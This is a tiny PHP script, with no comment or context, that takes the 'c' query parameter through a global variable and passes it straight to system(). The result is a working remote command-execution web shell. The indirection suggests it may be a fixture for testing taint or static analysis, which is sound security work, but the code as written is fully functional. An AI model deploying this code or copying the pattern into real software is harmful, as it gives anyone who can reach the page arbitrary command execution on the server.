<?php
function f() { global $c; $c = $_GET["c"]; }
f();
system($c);
